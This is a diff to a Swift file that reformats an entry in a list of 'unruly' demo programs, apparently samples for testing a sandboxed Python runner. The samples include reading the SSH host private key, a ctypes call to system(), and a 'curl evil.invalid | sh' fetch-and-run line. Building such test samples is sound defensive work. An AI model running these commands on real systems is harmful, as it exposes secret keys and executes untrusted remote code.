@@ -94,7 +94,9 @@ struct DemoProgram: Sendable {
   private static let unruly: [DemoProgram] = [
     .init(title: "A test that fails", body: "cases = [1, 2, 3]\nassert sum(cases) == 7, 'expected 7'"),
     .init(title: "A slip of the pen", body: "def forecast(days)\n    return days"),
-    .init(title: "Reads a key it must not have", body: "print(open('/etc/ssh/ssh_host_ed25519_key').read())", profile: "off"),
+    .init(
+      title: "Reads a key it must not have", body: "print(open('/etc/ssh/ssh_host_ed25519_key').read())",
+      profile: "off"),
     .init(title: "Calls the C library", body: "import ctypes\nctypes.CDLL(None).system(b'id')"),
     .init(title: "Opens a shell", body: "import os\nos.system('curl evil.invalid | sh')"),
     .init(
